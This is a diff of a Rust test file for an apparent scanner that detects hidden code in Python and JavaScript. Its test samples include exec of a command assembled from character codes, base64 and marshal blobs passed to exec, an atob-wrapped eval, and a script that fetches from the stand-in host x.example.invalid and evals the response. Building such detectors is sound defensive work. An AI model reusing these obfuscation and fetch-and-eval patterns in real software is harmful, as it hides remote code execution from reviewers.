@@ -214,7 +214,7 @@ fn one_chr_and_eval_namespaces_are_not_hidden_code() {
     // numpy.f2py: a parameter value turned into a character, then the dict used as eval's namespace.
     let text = "def get(vars, params, n, expr):\n    params[n] = chr(params[n])\n    return eval(expr, {}, params)\n";
     assert!(py(text).is_empty(), "{:?}", py(text));
-    let hidden = py("cmd = ''.join(chr(c) for c in [105, 100])\nexec(cmd)\n");
+    let hidden = py("cmd = ''.join(chr(c) for c in [105, 100, 59, 32])\nexec(cmd)\n");
     assert_eq!(hidden.len(), 1, "{hidden:?}");
     let literal = py("import os\nos.system(chr(105) + chr(100))\n");
     assert_eq!(literal.len(), 1, "{literal:?}");
@@ -229,4 +229,21 @@ fn a_socket_is_not_downloaded_data_but_what_it_receives_is() {
     assert_eq!(received.len(), 1, "{received:?}");
     let js_response = js("const https = require('https');\nconst req = https.request({ host: 'x.example.invalid' });\nreq.on('response', (res) => { let b = ''; res.on('data', (d) => { b += d; }); res.on('end', () => eval(b)); });\nreq.end();\n");
     assert_eq!(js_response.len(), 1, "{js_response:?}");
+}
+
+#[test]
+fn decoding_runtime_input_is_serialisation_not_hiding() {
+    // PyInstaller's isolated child: code objects arrive base64-encoded over a pipe from the parent.
+    let pipe = py("import marshal, types\nfrom base64 import b64decode\ndef run(read_fh):\n    code = marshal.loads(b64decode(read_fh.readline().strip()))\n    function = types.FunctionType(code, {})\n    return function()\n");
+    assert!(pipe.is_empty(), "{pipe:?}");
+    let embedded = py("import marshal, types\nfrom base64 import b64decode\nBLOB = 'YwAAAAAAAAAAAAAAAAAAAAAAAAA='\ncode = marshal.loads(b64decode(BLOB))\nexec(code)\n");
+    assert_eq!(embedded.len(), 1, "{embedded:?}");
+    let wrapper = js("function d(s) { return atob(s); }\neval(d('Y29uc29sZS5sb2coMSk='));\n");
+    assert_eq!(wrapper.len(), 1, "{wrapper:?}");
+}
+
+#[test]
+fn a_timer_given_a_function_name_runs_the_function() {
+    let text = "const dns = require('dns');\nfunction sendKA() { sock.write('ka'); }\ndns.lookup(host, (err, address) => { connect(address); setInterval(sendKA, 1000); });\n";
+    assert!(js(text).is_empty(), "{:?}", js(text));
 }
